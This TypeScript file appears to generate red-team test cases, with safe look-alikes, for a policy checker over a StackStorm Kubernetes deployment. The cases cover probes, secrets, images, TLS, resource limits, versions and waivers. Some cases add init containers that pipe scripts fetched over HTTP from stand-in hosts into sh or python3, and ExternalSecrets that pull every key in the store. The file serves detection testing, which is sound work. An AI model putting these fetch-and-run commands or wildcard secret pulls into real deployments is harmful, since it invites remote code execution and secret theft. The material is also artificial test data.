/**
 * The ninth red team's last allowed changes (docs/red-team.md, "Closed since,
 * holes piece"), rewritten as patches over prod with variants and safe
 * look-alikes: components starved by their limits (ST2-OPS-048), st2 services
 * on different releases or a dev build in production (ST2-HRD-015/016), a
 * staging waiver of a singleton rule (never waivable in staging since), and
 * the classes after them in this file.
 */
import type { Patch, RedTeamCase } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { image } from './kustomization-text.js';
import { FIRST, DEPLOY, STS, patch, type Json } from './targets.js';

const limits = (target: Json, resources: Json): Patch => patch(target, { op: 'replace', path: `${FIRST}/resources`, value: resources });
const day = (days: number): string => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);

export function fresh10HolesCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f10-${id}`, cls, rule, body));
  };

  // --- Exec probes dialling a port the store does not listen on (ST2-OPS-031) -------------------------
  const probe = (kind: string, command: string[]): Patch => patch(STS('mongodb'), { op: 'replace', path: `${FIRST}/${kind}/exec/command`, value: command });
  const etcdProbe = (command: string[]): Patch => patch(STS('etcd'), { op: 'replace', path: `${FIRST}/livenessProbe`, value: { exec: { command }, initialDelaySeconds: 15, periodSeconds: 10, timeoutSeconds: 5 } });
  add('probe-mongo-port', 'never-runs', 'ST2-OPS-031', { patches: [probe('livenessProbe', ['mongo', '--port', '27018', '--eval', "db.adminCommand('ping')"])] });
  add('probe-mongo-host-port', 'never-runs', 'ST2-OPS-031', { patches: [probe('readinessProbe', ['mongo', '--host', 'localhost:27019', '--eval', "db.adminCommand('ping')"])] });
  add('probe-mongo-in-sh', 'never-runs', 'ST2-OPS-031', { patches: [probe('livenessProbe', ['sh', '-c', `mongo --quiet --port=27020 --eval "db.adminCommand('ping').ok" | grep -q 1`])] });
  add('probe-mongo-uri', 'never-runs', 'ST2-OPS-031', { patches: [probe('readinessProbe', ['mongo', 'mongodb://127.0.0.1:28017/admin', '--eval', "db.adminCommand('ping')"])] });
  add('probe-mongod-moved', 'never-runs', 'ST2-OPS-031', { patches: [patch(STS('mongodb'), { op: 'add', path: `${FIRST}/args/-`, value: '--port' }, { op: 'add', path: `${FIRST}/args/-`, value: '27018' })] });
  add('probe-etcdctl-port', 'never-runs', 'ST2-OPS-031', { patches: [etcdProbe(['etcdctl', '--endpoints=http://127.0.0.1:2389', 'endpoint', 'health'])] });
  add('safe-probe-mongo-default-port', 'never-runs', undefined, { patches: [probe('livenessProbe', ['mongo', '--port', '27017', '--eval', "db.adminCommand('ping')"])] });
  add('safe-probe-mongo-localhost', 'never-runs', undefined, { patches: [probe('readinessProbe', ['sh', '-c', `mongo --host localhost --quiet --eval "db.adminCommand('ping').ok" | grep -q 1`])] });
  add('safe-probe-etcdctl-client-port', 'never-runs', undefined, { patches: [etcdProbe(['etcdctl', '--endpoints=http://127.0.0.1:2379', 'endpoint', 'health'])] });

  // --- ExternalSecrets: the whole store, or a lenient environment's key (ST2-SEC-018, ST2-SEC-011) -----
  const es = (name: string, spec: Json, store = 'st2-production'): Json => ({
    apiVersion: 'external-secrets.io/v1beta1',
    kind: 'ExternalSecret',
    metadata: { name },
    spec: { refreshInterval: '1h', secretStoreRef: { kind: 'ClusterSecretStore', name: store }, target: { name, creationPolicy: 'Owner' }, ...spec },
  });
  const key = (k: string, property = 'password'): Json => ({ data: [{ secretKey: 'password', remoteRef: { key: k, property } }] });
  add('ess-find-all', 'environment', 'ST2-SEC-018', { resources: [es('st2-everything', { dataFrom: [{ find: { name: { regexp: '.*' } } }] })] });
  add('ess-find-bare', 'environment', 'ST2-SEC-018', { resources: [es('st2-everything', { dataFrom: [{ find: { conversionStrategy: 'Default', decodingStrategy: 'None' } }] })] });
  add('ess-find-dot-plus', 'environment', 'ST2-SEC-018', { resources: [es('st2-everything', { dataFrom: [{ find: { name: { regexp: '^.+$' } } }] })] });
  add('ess-find-staging', 'environment', 'ST2-SEC-018', { wraps: 'staging', resources: [es('st2-everything', { dataFrom: [{ find: { name: { regexp: '.*' } } }] }, 'st2-staging')] });
  add('ess-dev-key-in-prod', 'environment', 'ST2-SEC-011', { resources: [es('st2-ldap', key('dev/st2/ldap'))] });
  add('ess-staging-key-extract', 'environment', 'ST2-SEC-011', { resources: [es('st2-ldap', { dataFrom: [{ extract: { key: 'stackstorm-staging/ldap' } }] })] });
  add('ess-dev-key-patched', 'environment', 'ST2-SEC-011', { patches: [patch({ group: 'external-secrets.io', kind: 'ExternalSecret', name: 'st2-auth' }, { op: 'replace', path: '/spec/data/1/remoteRef/key', value: 'development/stackstorm/st2-auth' })] });
  add('ess-dev-key-in-staging', 'environment', 'ST2-SEC-011', { wraps: 'staging', resources: [es('st2-ldap', key('dev/st2/ldap'), 'st2-staging')] });
  add('safe-ess-find-by-path', 'environment', undefined, { resources: [es('st2-packs', { dataFrom: [{ find: { path: 'stackstorm/packs', name: { regexp: '.*' } } }] })] });
  add('safe-ess-find-by-tags', 'environment', undefined, { resources: [es('st2-packs', { dataFrom: [{ find: { tags: { app: 'stackstorm', env: 'production' } } }] })] });
  add('safe-ess-find-anchored', 'environment', undefined, { resources: [es('st2-packs', { dataFrom: [{ find: { name: { regexp: '^stackstorm-pack-' } } }] })] });
  add('safe-ess-prod-key-path', 'environment', undefined, { resources: [es('st2-ldap', key('prod/stackstorm/ldap'))] });
  add('safe-ess-devops-key', 'environment', undefined, { resources: [es('st2-ldap', key('stackstorm/devops-ldap'))] });

  // --- Supply chain: code over http, st2 images from someone's namespace (ST2-SEC-019, ST2-HRD-017) ----
  const LIM = { requests: { cpu: '10m', memory: '16Mi' }, limits: { cpu: '100m', memory: '64Mi' } };
  const SC = { runAsNonRoot: true, runAsUser: 1000, allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } };
  const init = (target: Json, image: string, script: string): Patch =>
    patch(target, { op: 'add', path: '/spec/template/spec/initContainers/-', value: { name: 'bootstrap', image, command: ['sh', '-c', script], resources: LIM, securityContext: SC } });
  add('sup-curl-pipe-sh-http', 'delivery', 'ST2-SEC-019', { patches: [init(DEPLOY('st2api'), 'curlimages/curl:8.10.1', 'curl -fsSL http://tools.example.net/bootstrap.sh | sh')] });
  add('sup-wget-pipe-bash', 'delivery', 'ST2-SEC-019', { patches: [init(DEPLOY('st2actionrunner'), 'busybox:1.36.1', 'wget -qO- http://203.0.113.7/setup | sh -s -- --quiet')] });
  add('sup-saved-and-run', 'delivery', 'ST2-SEC-019', { patches: [init(DEPLOY('st2sensorcontainer'), 'curlimages/curl:8.10.1', 'curl -fsS -o /tmp/hook.sh http://tools.example.net/hook.sh && sh /tmp/hook.sh')] });
  add('sup-python-over-http', 'delivery', 'ST2-SEC-019', { patches: [init(DEPLOY('st2workflowengine'), 'python:3.12.7-alpine', 'wget -q -O - http://tools.example.net/patch.py | python3')] });
  add('sup-personal-image', 'delivery', 'ST2-HRD-017', { patches: [patch(DEPLOY('st2api'), { op: 'replace', path: `${FIRST}/image`, value: 'jdoe/st2api:3.8.1' })] });
  add('sup-personal-image-newname', 'delivery', 'ST2-HRD-017', { extra: ['images:', '  - name: stackstorm/st2actionrunner', '    newName: ghcr.io/some-user/st2actionrunner', '    newTag: "3.8.1"'] });
  add('sup-renamed-image-running-st2api', 'delivery', 'ST2-HRD-017', { patches: [patch(DEPLOY('st2api'), { op: 'replace', path: `${FIRST}/image`, value: 'quay.io/jdoe/python-tools:1.0.0' })] });
  add('safe-sup-docker-io-prefix', 'delivery', undefined, { extra: ['images:', '  - name: stackstorm/st2api', '    newName: docker.io/stackstorm/st2api', '    newTag: "3.8.1"'] });
  add('safe-sup-config-over-http', 'delivery', undefined, { patches: [init(DEPLOY('st2api'), 'curlimages/curl:8.10.1', 'curl -fsS http://config-server.st2-prod.svc/st2.conf -o /tmp/zz.conf && grep -q "\\[api\\]" /tmp/zz.conf')] });
  add('safe-sup-health-over-http', 'delivery', undefined, { patches: [init(DEPLOY('st2stream'), 'curlimages/curl:8.10.1', 'until curl -fs http://st2api:9101/v1/ | grep -q faq; do sleep 2; done')] });

  // --- st2web on plain HTTP (ST2-HRD-018), st2's URLs to the wrong service (ST2-OPS-049) ---------------
  const URLS = { kind: 'ConfigMap', name: 'st2-urls' };
  const webEnv = (...ops: Json[]): Patch => patch(DEPLOY('st2web'), ...ops);
  add('tls-st2web-http', 'exposure', 'ST2-HRD-018', { patches: [webEnv({ op: 'replace', path: `${FIRST}/env/0/value`, value: '0' })] });
  add('tls-st2web-https-false', 'exposure', 'ST2-HRD-018', { patches: [webEnv({ op: 'replace', path: `${FIRST}/env/0/value`, value: 'false' })] });
  add('tls-st2web-http-from-configmap', 'exposure', 'ST2-HRD-018', { patches: [webEnv({ op: 'remove', path: `${FIRST}/env/0` }), patch(URLS, { op: 'add', path: '/data/ST2WEB_HTTPS', value: '0' })] });
  add('tls-st2web-http-moved-to-80', 'exposure', 'ST2-HRD-018', {
    patches: [
      webEnv({ op: 'replace', path: `${FIRST}/env/0/value`, value: '0' }, { op: 'replace', path: `${FIRST}/ports/0`, value: { name: 'http', containerPort: 80 } }, { op: 'replace', path: `${FIRST}/livenessProbe/httpGet`, value: { scheme: 'HTTP', path: '/', port: 80 } }, { op: 'replace', path: `${FIRST}/readinessProbe/httpGet`, value: { scheme: 'HTTP', path: '/', port: 80 } }),
    ],
  });
  add('safe-tls-st2web-https-again', 'exposure', undefined, { patches: [webEnv({ op: 'add', path: `${FIRST}/env/-`, value: { name: 'ST2WEB_HTTPS', value: '1' } })] });
  add('safe-tls-st2web-https-from-configmap', 'exposure', undefined, { patches: [webEnv({ op: 'remove', path: `${FIRST}/env/0` }), patch(URLS, { op: 'add', path: '/data/ST2WEB_HTTPS', value: '1' })] });
  add('urls-misroute', 'st2-config', 'ST2-OPS-049', { patches: [patch(URLS, { op: 'replace', path: '/data/ST2_AUTH_URL', value: 'http://st2api:9101/' })] });
  add('urls-api-at-auth-fqdn', 'st2-config', 'ST2-OPS-049', { patches: [patch(URLS, { op: 'replace', path: '/data/ST2_API_URL', value: 'http://st2auth.st2-prod.svc.cluster.local:9100/' })] });
  add('urls-stream-at-web-env', 'st2-config', 'ST2-OPS-049', { patches: [webEnv({ op: 'add', path: `${FIRST}/env/-`, value: { name: 'ST2_STREAM_URL', value: 'https://st2web:443/' } })] });
  add('safe-urls-fqdn', 'st2-config', undefined, { patches: [patch(URLS, { op: 'replace', path: '/data/ST2_AUTH_URL', value: 'http://st2auth.st2-prod.svc.cluster.local:9100/' })] });
  add('safe-urls-env-own-service', 'st2-config', undefined, { patches: [webEnv({ op: 'add', path: `${FIRST}/env/-`, value: { name: 'ST2_API_URL', value: 'http://st2api.st2-prod.svc:9101/' } })] });

  // --- Half a password rotation (ST2-SEC-020) -------------------------------------------------------
  const ES = (name: string): Json => ({ group: 'external-secrets.io', kind: 'ExternalSecret', name });
  const property = (name: string, entry: number, value: string): Patch => patch(ES(name), { op: 'replace', path: `/spec/data/${entry}/remoteRef/property`, value });
  const remoteKey = (name: string, entry: number, value: string): Patch => patch(ES(name), { op: 'replace', path: `/spec/data/${entry}/remoteRef/key`, value });
  add('rot-mongo-password-half', 'store-auth', 'ST2-SEC-020', { patches: [property('st2-config-secrets', 2, 'password-2026-12')] });
  add('rot-mongo-admin-only', 'store-auth', 'ST2-SEC-020', { patches: [property('mongodb-admin', 1, 'password-2026-12')] });
  add('rot-rabbit-password-half', 'store-auth', 'ST2-SEC-020', { patches: [property('st2-config-secrets', 0, 'password-next')] });
  add('rot-mongo-new-key', 'store-auth', 'ST2-SEC-020', { patches: [remoteKey('st2-config-secrets', 2, 'stackstorm/mongodb-2026')] });
  add('safe-rot-mongo-both', 'store-auth', undefined, { patches: [property('st2-config-secrets', 2, 'password-2026-12'), property('mongodb-admin', 1, 'password-2026-12')] });
  add('safe-rot-rabbit-both', 'store-auth', undefined, { patches: [property('st2-config-secrets', 0, 'password-next'), property('rabbitmq', 0, 'password-next')] });

  // --- Starvation: limits below what the component needs (ST2-OPS-048) ------------------------------
  add('res-mongo-64mi', 'availability', 'ST2-OPS-048', { patches: [limits(STS('mongodb'), { requests: { cpu: '500m', memory: '64Mi' }, limits: { cpu: '2', memory: '64Mi' } })] });
  add('res-st2api-1m-cpu', 'availability', 'ST2-OPS-048', { patches: [limits(DEPLOY('st2api'), { requests: { cpu: '1m', memory: '256Mi' }, limits: { cpu: '1m', memory: '512Mi' } })] });
  add('res-runner-ephemeral', 'availability', 'ST2-OPS-048', { patches: [limits(DEPLOY('st2actionrunner'), { requests: { cpu: '500m', memory: '1Gi', 'ephemeral-storage': '1Mi' }, limits: { cpu: '4', memory: '2Gi', 'ephemeral-storage': '1Mi' } })] });
  add('res-mongo-256m-decimal', 'availability', 'ST2-OPS-048', { patches: [limits(STS('mongodb'), { requests: { cpu: '500m', memory: '200M' }, limits: { cpu: '2', memory: '256M' } })] });
  add('res-rabbit-100mi', 'availability', 'ST2-OPS-048', { patches: [limits(STS('rabbitmq'), { requests: { cpu: '250m', memory: '100Mi' }, limits: { cpu: '1', memory: '100Mi' } })] });
  add('res-timers-cpu-0.01', 'availability', 'ST2-OPS-048', { patches: [limits(DEPLOY('st2timersengine'), { requests: { cpu: '0.01', memory: '256Mi' }, limits: { cpu: '0.01', memory: '512Mi' } })] });
  add('res-etcd-16mi', 'availability', 'ST2-OPS-048', { patches: [limits(STS('etcd'), { requests: { cpu: '100m', memory: '16Mi' }, limits: { cpu: '500m', memory: '16Mi' } })] });
  add('safe-res-mongo-1gi', 'availability', undefined, { patches: [limits(STS('mongodb'), { requests: { cpu: '500m', memory: '1Gi' }, limits: { cpu: '1', memory: '1Gi' } })] });
  add('safe-res-api-small-request', 'availability', undefined, { patches: [limits(DEPLOY('st2api'), { requests: { cpu: '10m', memory: '64Mi' }, limits: { cpu: '500m', memory: '512Mi' } })] });
  add('safe-res-runner-ephemeral-2gi', 'availability', undefined, { patches: [limits(DEPLOY('st2actionrunner'), { requests: { cpu: '500m', memory: '1Gi', 'ephemeral-storage': '1Gi' }, limits: { cpu: '4', memory: '2Gi', 'ephemeral-storage': '2Gi' } })] });
  add('safe-res-dev-mongo-small', 'availability', undefined, { wraps: 'dev', patches: [limits(STS('mongodb'), { requests: { cpu: '100m', memory: '128Mi' }, limits: { cpu: '200m', memory: '256Mi' } })] });

  // --- Versions (ST2-HRD-015/016) ---------------------------------------------------------------------
  add('ver-runner-skew', 'components', 'ST2-HRD-016', { extra: image('stackstorm/st2actionrunner', '3.7.1') });
  add('ver-dev-image', 'components', 'ST2-HRD-015', { extra: image('stackstorm/st2api', 'dev') });
  add('ver-dev-suffix', 'components', 'ST2-HRD-015', { extra: image('stackstorm/st2workflowengine', '3.9.0-dev') });
  add('ver-unstable-web', 'components', 'ST2-HRD-015', { extra: image('stackstorm/st2web', 'unstable') });
  add('ver-api-ahead', 'components', 'ST2-HRD-016', { extra: image('stackstorm/st2api', '3.9.0') });
  add('ver-staging-skew', 'components', 'ST2-HRD-016', { wraps: 'staging', extra: image('stackstorm/st2scheduler', '3.6.0') });
  add('safe-ver-all-bumped', 'components', undefined, {
    extra: ['images:', ...['st2web', 'st2auth', 'st2api', 'st2stream', 'st2rulesengine', 'st2timersengine', 'st2workflowengine', 'st2notifier', 'st2sensorcontainer', 'st2actionrunner', 'st2garbagecollector', 'st2scheduler'].flatMap((n) => [`  - name: stackstorm/${n}`, '    newTag: "3.8.0"'])],
  });
  add('safe-ver-dev-tag-in-dev', 'components', undefined, { wraps: 'dev', extra: image('stackstorm/st2api', 'dev') });

  // --- Waivers: singletons are never waivable in staging either ---------------------------------------
  const waive = (rule: string, value: string): Patch => patch(DEPLOY('st2timersengine'), { op: 'add', path: `/metadata/annotations/st2-gitops~1waive.${rule}`, value });
  add('waiver-staging-two-timers', 'waivers', 'ST2-REP-001', { wraps: 'staging', extra: ['replicas:', '  - name: st2timersengine', '    count: 2'], patches: [waive('ST2-REP-001', `expires=${day(20)}; reason=load test of the timers, INC-9`)] });
  add('safe-waiver-staging-other-rule', 'waivers', undefined, { wraps: 'staging', patches: [patch(DEPLOY('st2timersengine'), { op: 'replace', path: `${FIRST}/image`, value: 'stackstorm/st2timersengine:latest' }), waive('ST2-HRD-001', `expires=${day(20)}; reason=upstream tag only, INC-10`)] });
  return cases;
}
